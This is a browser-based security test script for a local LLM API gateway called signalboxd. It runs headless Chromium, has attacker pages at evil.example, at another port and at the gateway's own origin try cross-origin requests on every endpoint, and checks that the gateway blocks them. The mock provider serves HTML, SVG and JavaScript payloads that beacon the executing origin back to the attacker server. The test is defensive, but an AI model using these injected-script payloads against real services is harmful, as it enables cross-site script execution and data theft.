#!/usr/bin/python3
"""Attacks signalboxd with a real browser: pages of another site, of another local port and of the gateway's own
origin try everything that a page can do, on every endpoint. Nothing may reach the provider, run as a page of the gateway, or be read.

Usage: attacks_test.py FOLDER-OF-SIGNALBOXD
The same pages first attack an undefended server, which shows which attempts a browser makes at all.
"""

import collections
import http.client
import http.server
import json
import os
import pathlib
import queue
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import urllib.parse

HERE = pathlib.Path(__file__).resolve().parent
KEY = "sk-browser-upstream-key"
PATIENCE_S = 120
ENDPOINTS = {
    "get": ["/v1/models", "/v1/models/alias", "/v1/files", "/v1/files/page/content", "/v1/batches", "/v1/batches/picture",
            "/v1/responses/resp_1", "/v1beta/models", "/api/tags", "/api/ps", "/metrics"],
    "post": ["/v1/chat/completions", "/v1/completions", "/v1/embeddings", "/v1/responses", "/v1/messages",
             "/v1/messages/count_tokens", "/v1/files", "/v1/batches", "/v1/images/generations", "/v1/audio/speech",
             "/v1/moderations", "/v1/rerank", "/v1beta/models/alias:generateContent", "/api/chat", "/api/show"],
}


# What a page of the gateway's own origin could do, if there were one: it sends requests like a program.
ASKS_AS_PROGRAM = {"fetch", "fetch, no-cors", "XMLHttpRequest", "EventSource", "WebSocket", "post, JSON", "beacon, form", "prefetch",
                   "preload"}
SAID = queue.Queue()


class Server(http.server.ThreadingHTTPServer):
    """On a free loopback port, in its own threads."""
    daemon_threads = True
    request_queue_size = 128

    def __init__(self, handler, **state):
        super().__init__(("127.0.0.1", 0), handler)
        self.lock = threading.Lock()
        self.ended = threading.Condition(self.lock)
        self.serving = set()
        self.__dict__.update(state)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def port(self):
        return self.server_address[1]

    def process_request(self, request, client_address):
        with self.lock:
            self.serving.add(client_address)
        super().process_request(request, client_address)

    def process_request_thread(self, request, client_address):
        try:
            super().process_request_thread(request, client_address)
        finally:
            with self.ended:
                self.serving.discard(client_address)
                self.ended.notify_all()

    def settle(self):
        """Waits until all connections so far have been served. The browser that made them has ended."""
        with socket.create_connection(self.server_address, PATIENCE_S) as last:
            last.shutdown(socket.SHUT_WR)
            last.recv(1)  # accepted after all others, and closed
        with self.ended:
            if not self.ended.wait_for(lambda: not self.serving, PATIENCE_S):
                sys.exit("connections of the browser are still open")

    def handle_error(self, request, client_address):
        pass  # browsers may close connections at any time


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def body(self):
        return self.rfile.read(int(self.headers.get("Content-Length") or 0))

    def answer(self, status, headers, body):
        self.send_response_only(status)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)


class Provider(Handler):
    """Answers everything with an active page, picture or script and with every header that extends its rights."""

    def answer_all(self):
        self.body()
        path, _, query = self.path.partition("?")
        kind = urllib.parse.parse_qs(query).get("attempt", ["?"])[0]
        with self.server.lock:
            self.server.came.append((kind, self.command, path))
        told = "http://127.0.0.1:%d/ran?origin=" % self.server.attacker_port
        script = "new Function('u','typeof Image==\"undefined\"?fetch(u,{mode:\"no-cors\"}):new Image().src=u')('%s'+self.location.origin)" % told
        if "picture" in path or kind == "image":
            content = "image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg"><script>%s</script></svg>' % script
        elif any(word in kind for word in ("script", "module", "worker")):
            content = "text/javascript", script
        else:
            content = "text/html", "<!doctype html><script>%s</script>" % script
        self.answer(200, [("Content-Type", content[0]), ("Access-Control-Allow-Origin", self.headers.get("Origin", "*")),
                          ("Access-Control-Allow-Headers", "*"), ("Service-Worker-Allowed", "/"),
                          ("Link", "</v1/files>; rel=preload; as=script")], content[1].encode())

    do_GET = do_HEAD = do_POST = do_OPTIONS = do_DELETE = answer_all


class Witness(Handler):
    """Sits in front of the gateway like a port mapping and records the gateway's answer to each attempt. It also serves
    the attacking page as if from the gateway: some attempts a browser makes only for pages of the same origin."""

    def pass_on(self):
        if self.path.startswith("/attack?") or self.path == "/done":
            return (Attacker.do_GET if self.command == "GET" else Attacker.do_POST)(self)
        body = self.body()
        upstream = http.client.HTTPConnection("127.0.0.1", self.server.gateway_port, timeout=30)
        upstream.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
        for name, value in self.headers.items():
            upstream.putheader(name, value)
        upstream.endheaders(body or None)
        answer = upstream.getresponse()
        content = answer.read()
        kind = urllib.parse.parse_qs(self.path.partition("?")[2]).get("attempt", ["?"])[0]
        with self.server.lock:
            self.server.seen.append((kind, self.command, self.path, answer.status))
        self.answer(answer.status, [(n, v) for n, v in answer.getheaders() if n.lower() not in ("content-length", "transfer-encoding")], content)
        upstream.close()

    do_GET = do_HEAD = do_POST = do_OPTIONS = do_DELETE = pass_on


class Attacker(Handler):
    """Serves the page and receives what it saw and which scripts ran."""

    def do_GET(self):
        path = self.path.partition("?")[0]
        if path == "/ran":
            with self.server.lock:
                self.server.ran.append(urllib.parse.parse_qs(self.path.partition("?")[2])["origin"][0])
            return self.answer(204, [], b"")
        if path == "/attack":
            return self.answer(200, [("Content-Type", "text/html")], (HERE / "attacks.html").read_bytes())
        return self.answer(404, [], b"")

    def do_POST(self):
        said = json.loads(self.body())
        self.answer(204, [], b"")
        SAID.put(said)


def start_gateway(folder, programs, upstream_port):
    config = {
        "version": 1,
        "listen": {"http_port": 0, "https_port": None},
        "providers": [{"id": "up", "type": "openai-compatible", "base_url": "http://127.0.0.1:%d/v1" % upstream_port,
                       "keys": [{"name": "main", "secret": "env:BROWSER_UPSTREAM_KEY"}], "models": ["alias"], "proxy": "none"}],
    }
    file = folder / "config.json"
    file.write_text(json.dumps(config))
    environment = dict(os.environ, HOME=str(folder), BROWSER_UPSTREAM_KEY=KEY, XDG_CONFIG_HOME=str(folder), XDG_DATA_HOME=str(folder))
    gateway = subprocess.Popen([str(programs / "signalboxd"), "--config", str(file), "--data-dir", str(folder / "data")],
                               stdout=subprocess.PIPE, stderr=(folder / "gateway.log").open("w"), env=environment, text=True)
    line = gateway.stdout.readline()
    if not line.startswith("listening on http://"):
        sys.exit("signalboxd did not start: " + (folder / "gateway.log").read_text())
    return gateway, int(line.split()[2].rsplit(":", 1)[1])


def browse(folder, page, target):
    """Opens the attacking page and waits until it has finished."""
    question = urllib.parse.urlencode({"target": target, "endpoints": json.dumps(ENDPOINTS)})
    with tempfile.TemporaryDirectory(dir=folder) as profile:
        browser = subprocess.Popen(
            ["chromium", "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-popup-blocking", "--no-first-run",
             "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-proxy-server",
             "--disable-dev-shm-usage", "--disable-background-timer-throttling", "--disable-renderer-backgrounding", "--disable-backgrounding-occluded-windows", "--user-data-dir=" + profile, "--host-resolver-rules=MAP evil.example 127.0.0.1",
             "%s/attack?%s" % (page, question)],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        try:
            return SAID.get(timeout=PATIENCE_S)
        except queue.Empty:
            sys.exit("the page at %s did not come to its end" % page)
        finally:
            os.killpg(browser.pid, signal.SIGTERM)
            browser.wait()


def kinds_of(said):
    kinds = []
    for one in said:
        if one["kind"] not in kinds:
            kinds.append(one["kind"])
    return kinds


def statuses(seen, kind):
    counts = collections.Counter("%s%d" % ("preflight " if method == "OPTIONS" else "", status)
                                 for each, method, _, status in seen if each == kind)
    return ", ".join("%s x%d" % pair for pair in sorted(counts.items())) or "not sent"


def main():
    programs = pathlib.Path(sys.argv[1]).resolve()
    if not shutil.which("chromium"):
        sys.exit("chromium is not installed: packaging/dev deps check")
    folder = pathlib.Path(tempfile.mkdtemp(prefix="signalbox-browser-"))
    attacker = Server(Attacker, ran=[])
    provider = Server(Provider, came=[], attacker_port=attacker.port)
    gateway, gateway_port = start_gateway(folder, programs, provider.port)
    faults = []
    try:
        witness = Server(Witness, seen=[], gateway_port=gateway_port)
        # Without a browser the provider's page is delivered, so the path works.
        direct = http.client.HTTPConnection("127.0.0.1", witness.port)
        direct.request("GET", "/v1/files/page/content?attempt=direct")
        answer = direct.getresponse()
        answer.read()
        if answer.status != 200 or answer.getheader("Content-Security-Policy") != "sandbox; default-src 'none'" or not provider.came:
            faults.append("a program does not get the provider's file: %d" % answer.status)
        direct.close()

        provider.came.clear()
        said = browse(folder, "http://evil.example:%d" % attacker.port, "http://localhost:%d" % provider.port)
        undefended = {kind: sum(1 for each, *_ in provider.came if each == kind) for kind in kinds_of(said)}
        ran_undefended = sum(1 for origin in attacker.ran if origin == "http://localhost:%d" % provider.port)
        read_undefended = sum(1 for one in said if one["saw"].startswith("read"))
        if ran_undefended == 0 or read_undefended == 0:
            faults.append("the attacks do not even work on a server without defence")

        table = {}
        origin = "http://localhost:%d" % witness.port
        pages = ("http://evil.example:%d" % attacker.port, "http://localhost:%d" % attacker.port, origin)
        for page in pages:
            expected = ASKS_AS_PROGRAM if page == origin else set()
            provider.came.clear()
            attacker.ran.clear()
            witness.seen.clear()
            said = browse(folder, page, origin)
            for server in (witness, attacker):
                server.settle()
            for kind in kinds_of(said):
                table.setdefault(kind, []).append(statuses(witness.seen, kind))
                reached = [each for each in provider.came if each[0] == kind and kind not in expected]
                if reached:
                    faults.append("%s from %s reached the provider: %s" % (kind, page, reached[:3]))
            stray = [each for each in provider.came if each[0] not in kinds_of(said)]
            ran = [each for each in attacker.ran if each == origin]
            read = [one for one in said if one["saw"].startswith("read")]
            taken = [each for each in witness.seen if each[3] < 400 and each[0] not in expected]
            found_by = {"ran as a page of the gateway": ran, "was answered": taken}
            if not expected:
                found_by.update({"reached the provider": stray, "was read": read})
            for what, found in found_by.items():
                if found:
                    faults.append("%s: %s from %s" % (found[:3], what, page))
    finally:
        gateway.terminate()
        gateway.wait()
    row = "%-23s %-11s %-23s %-23s %s"
    print(row % ("attempt", "undefended", "another site", "another port", "the gateway's origin"))
    for kind, got in table.items():
        print(row % (kind, "%d arrived" % undefended.get(kind, 0), *got))
    print("undefended: %d scripts ran on the provider's origin, %d answers were read" % (ran_undefended, read_undefended))
    if faults:
        sys.exit("\n".join(faults) + "\nlogs are in " + str(folder))
    shutil.rmtree(folder, ignore_errors=True)
    print("no foreign page reached the provider or read anything, and nothing ran as a page of the gateway")


main()
